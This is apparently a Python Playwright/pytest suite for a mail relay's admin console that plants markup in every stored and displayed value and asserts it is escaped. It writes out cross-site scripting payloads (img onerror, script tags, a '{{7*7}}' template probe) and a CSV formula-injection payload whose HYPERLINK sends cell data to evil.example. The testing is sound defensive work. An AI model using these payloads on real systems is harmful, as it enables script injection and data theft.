"""Markup in everything that is stored and shown: no page takes a letter of it for its own."""

import csv
from collections.abc import Iterator, Mapping, Sequence
from email.header import Header
from io import StringIO
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.pages.full_house import page_routes
from tests.peers.api import ApiClient
from tests.peers.browser import window
from tests.peers.canaries import canary
from tests.peers.console import ADMINISTRATOR, Console, console_process
from tests.peers.recorder import Recorder
from tests.peers.relay import one_channel, open_server
from tests.peers.system import wait_until
from tests.peers.visitor import signed_in

_MARKUP = "\"'><img src=x onerror=window.__xss=1><script>window.__xss=1</script>{{7*7}}"
# A local part has no blank outside quotes; inside them it may have all else.
_LOCAL = '"{}<img/src=x/onerror=window.__xss=1>"@acmejets.example'
_TOLD = "<img src=x onerror=window.__xss=1>"
_FIELDS = ("full_name", "group", "role", "country", "language")
_TAKEN, _REFUSED, _LATER = "ann@customer.example", "refused@customer.example", "later@customer.example"
AGENT, AGENT_ADDRESS = "evil", "evil@acmejets.example"

pytestmark = [pytest.mark.needs("chromium"), pytest.mark.slow, pytest.mark.timeout(400)]


def marked(mark: str) -> str:
    """Return markup that begins with a word by which it is found again."""
    return f"{mark}-here{_MARKUP}"


@pytest.fixture(scope="module")
def console(upstream: Recorder) -> Iterator[Console]:
    """A relay in which an administrator, a mail client and a server wrote markup wherever they could."""
    upstream.replies |= {
        ".": f"250 2.0.0 {marked('took')}\r\n".encode(),
        f"RCPT TO:<{_REFUSED}>": f"550 5.1.1 {marked('refused')}\r\n".encode(),
        f"RCPT TO:<{_LATER}>": f"451 4.3.0 {marked('later')}\r\n".encode(),
        "AUTH": f"535 5.7.8 {marked('login')}\r\n".encode(),
    }
    settings = {"delivery": {"mode": "auto", "retry": ["1h"]}}
    with console_process(one_channel(open_server(upstream.port)), settings) as running:
        api = ApiClient(running.url, running.add_token("writer"))
        _write(api, upstream.port)
        _send(running, api)
        yield running


def _write(api: ApiClient, port: int) -> None:
    """Fill every value of the directory that takes any text."""
    closed = open_server(port, auth="plain", username=marked("username"), address=_LOCAL.format("identity"))
    more = {"answers": [{"match": marked("match"), "means": "throttle"}]}
    agent = {"address": AGENT_ADDRESS, "override": False, **{key: marked(key) for key in _FIELDS}}
    box = {"host": "imap.acmejets.example", "username": marked("mailbox")}
    odd = {"address": _LOCAL.format("address"), "aliases": [_LOCAL.format("alias")], "incoming": box}
    steps: Sequence[tuple[str, str, Mapping[str, Any]]] = (
        ("POST", "/servers", {"name": "closed", **closed, **more}),
        ("PUT", "/servers/closed/password", {"password": canary("closed"), "unchecked": True}),
        ("POST", "/scripts", {"name": "default", "set_headers": {"X-Told": marked("script")}}),
        ("POST", "/channels", {"name": "odd", **odd}),
        ("POST", "/channels", {"name": "locked", "address": "locked@acmejets.example", "server": "closed"}),
        ("POST", "/agents", {"name": AGENT, **agent}),
        ("PUT", f"/agents/{AGENT}/login", {"password": canary(AGENT)}),
        ("POST", "/applications", {"name": "shop", "may_send_as": ["*"]}),
        ("POST", "/tokens", {"name": "reader"}),
    )
    for method, path, body in steps:
        done = api.ask(method, path, body)
        assert done.status < 300, (path, done.content)


def _send(console: Console, api: ApiClient) -> None:
    """Send mail with markup in all that a client says: what is taken, refused, kept for later, and held."""
    odd = _LOCAL.format("odd")
    for sender, recipients in (
        (AGENT_ADDRESS, [_TAKEN, odd]),
        (AGENT_ADDRESS, [_TAKEN, _REFUSED]),
        (AGENT_ADDRESS, [_LATER]),
        ("locked@acmejets.example", [_TAKEN]),
    ):
        with console.relay.connect() as client:
            client.say("EHLO helo-here<img/src=x/onerror=window.__xss=1>")
            client.say(f"MAIL FROM:<{sender}>")
            for one in recipients:
                assert client.say(f"RCPT TO:<{one}>").startswith("250"), one
            assert client.say("DATA").startswith("354")
            client.send(_message(sender))
            assert client.reply().startswith("250")
    wait_until(lambda: len(api.get("/messages")["items"]) >= 4, "the messages in the history")
    wait_until(lambda: [one for one in items(api, "/accounts") if one["state"] == "held"], "the held account")


def _message(sender: str) -> bytes:
    encoded = Header(marked("encoded"), "utf-8", maxlinelen=70).encode(linesep="\r\n")
    lines = (
        f'From: "display-here{_MARKUP.replace(chr(34), "")}" <{sender}>',
        f"Sender: {marked('sender')}",
        f"Subject: {marked('subject')} {encoded}",
        "Message-ID: <messageid-here<img/src=x/onerror=window.__xss=1>@customer.example>",
        f"X-Mailer: {marked('mailer')}",
        "Content-Type: text/html",
        "",
        f"<b>{marked('body')}</b>",
        ".",
        "",
    )
    return "\r\n".join(lines).encode()


def paths(console: Console, api: ApiClient) -> list[str]:
    """Return the address of every page, of each thing that there is."""
    known = {
        "administrators": [ADMINISTRATOR],
        "tokens": ["reader"],
        "messages": [one["id"] for one in api.get("/messages")["items"]],
        "welcome": [str(console.relay.ask("agent", "invite", AGENT)["url"]).rpartition("/")[2]],
    } | {
        noun: [one["name"] for one in items(api, f"/{noun}")]
        for noun in ("servers", "channels", "agents", "applications", "scripts")
    }
    found = []
    for path, methods in page_routes():
        before, brace, after = path.partition("{")
        if "GET" not in methods or path.startswith(("/events", "/static", "/metrics")) or path.endswith("/content"):
            continue
        noun = before.rstrip("/").rpartition("/")[2]
        rest = after.partition("}")[2]
        found += [f"{before}{name}{rest}" for name in known[noun]] if brace else [path]
    # Downloads are no pages.
    return [path for path in found if not path.endswith("/export")]


def items(api: ApiClient, path: str) -> list[dict[str, Any]]:
    """Return the entries of a list, in pages or whole."""
    found = api.get(path)
    return list(found["items"] if isinstance(found, dict) else found)


def look(page: Page, path: str) -> str:
    """Open a page, check that nothing on it ran or loads, and return all that it says, with what its fields hold."""
    answer = page.goto(path)
    assert answer is not None
    assert answer.status < 500, path
    assert page.evaluate("() => window.__xss === undefined"), path
    assert page.locator("img[src=x], [onerror], main script, style, iframe, object").count() == 0, path
    links = page.evaluate(
        "() => ['href', 'action', 'formaction'].flatMap(name => [...document.querySelectorAll(`[${name}]`)]"
        ".map(e => new URL(e.getAttribute(name), location).protocol))"
    )
    assert set(links) <= {"http:", "mailto:"}, path
    said: str = page.evaluate(
        "() => document.documentElement.textContent + "
        "[...document.querySelectorAll('input,textarea')].map(e => e.value).join('\\n')"
    )
    assert "-here49" not in said, path
    return said


def test_no_page_takes_what_others_wrote_for_its_own(browser: Browser, console: Console) -> None:
    api = ApiClient(console.url, console.add_token("walker"))
    said = ""
    with window(browser, console.url) as context:
        page = console.sign_in(context, ADMINISTRATOR, canary(ADMINISTRATOR))
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        for path in paths(console, api):
            said += look(page, path)
    with window(browser, console.url) as context:
        page = console.sign_in(context, AGENT_ADDRESS, canary(AGENT))
        own = [one["id"] for one in api.get(f"/messages?profile={AGENT}")["items"]]
        for path in ("/profile", "/profile/messages", *(f"/profile/messages/{one}" for one in own)):
            said += look(page, path)
    whole = (
        "username",
        "match",
        *_FIELDS,
        "mailbox",
        "script",
        "took",
        "refused",
        "later",
        "login",
        "subject",
        "sender",
    )
    for mark in whole:
        assert any(f"{mark}-here{quote}'>{_TOLD}" in said for quote in ('"', '\\"')), mark
    assert f"display-here'>{_TOLD}" in said
    for mark in ("identity", "address", "alias", "odd", "helo-here", "messageid-here"):
        assert f"{mark}<img/src=x/onerror=window.__xss=1>" in said, mark


def test_what_is_typed_or_asked_for_comes_back_as_text(console: Console) -> None:
    """Without a browser: nothing of it may stand in the page as it was sent."""
    boss = signed_in(console, ADMINISTRATOR, canary(ADMINISTRATOR))
    text = "told\"'><img src=x onerror=alert(1)>"
    quoted = "".join(f"%{octet:02x}" for octet in text.encode())
    keys = ("q", "sort", "sender", "to", "subject", "message_id", "profile", "state", "since", "until", "at", "start")
    more = ("name", "host", "provider", "who", "what", "operation", "span", "account", "next", "code", "error", "limit")
    query = "&".join(f"{key}={quoted}" for key in (*keys, *more))
    shown = 0
    for path, methods in page_routes():
        where = "/".join(quoted if part.startswith("{") else part for part in path.split("/"))
        if "GET" in methods and path != "/events":
            page = boss.get(f"{where}?{query}")
            # A file to download is no page, and says so.
            is_file = page.headers.get("Content-Disposition", "").startswith("attachment")
            assert is_file or "<img src=x" not in page.text, where
            shown += "told&#34;" in page.text
        if "POST" in methods and path != "/sign-out":
            fields = dict.fromkeys((*keys, *more, "address", "username", "may_send_as", "set_headers", "role"), text)
            page = boss.submit(where, **fields)
            assert "<img src=x" not in page.text, where
            shown += "told&#34;" in page.text
    assert shown > 20
    assert "<img src=x" not in boss.get(f"/{quoted}").text


def test_a_notice_from_a_cookie_is_text(console: Console) -> None:
    """Other programs of this machine, on other ports, may set cookies for us."""
    boss = signed_in(console, ADMINISTRATOR, canary(ADMINISTRATOR))
    laid = "relay-notice=%3Cimg%20src%3Dx%3E; relay-columns-agents=%3Cimg%3E"
    page = boss.get("/agents", Cookie=f"relay={boss.cookie}; {laid}")
    assert "&lt;img src=x&gt;" in page.text
    assert "<img src=x>" not in page.text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
def test_no_cell_of_an_export_is_a_formula(start: str, console: Console) -> None:
    api = ApiClient(console.url, console.add_token(f"formula{ord(start[0])}{len(start)}"))
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    done = api.ask("PATCH", f"/agents/{AGENT}", {"full_name": formula})
    if start.strip() != start:  # a blank in front is not kept, or the value is refused
        assert done.status in {200, 422}
    else:
        assert done.status == 200, done.content
    boss = signed_in(console, ADMINISTRATOR, canary(ADMINISTRATOR))
    for text in (boss.get("/agents/-/export").text, api.ask("GET", "/agents.csv").content.decode()):
        cells = [cell for row in csv.reader(StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]
        assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
    shown = [cell for cell in cells if "HYPERLINK" in cell]
    assert shown == ([f"'{formula}"] if done.status == 200 else [])


def test_a_fault_in_the_file_is_told_as_text(browser: Browser, console: Console) -> None:
    good = console.relay.directory_file.read_text()
    with window(browser, console.url) as context:
        page = console.sign_in(context, ADMINISTRATOR, canary(ADMINISTRATOR))
        key = marked("fault").replace('"', "").replace("'", "")
        console.relay.write_directory_text(f"{good}\n['{key}']\nx = 1\n")
        wait_until(lambda: not console.relay.ask("status")["directory"]["ok"], "the fault")
        said = look(page, "/")
        console.relay.write_directory_text(good)
    assert "fault-here><img src=x" in said
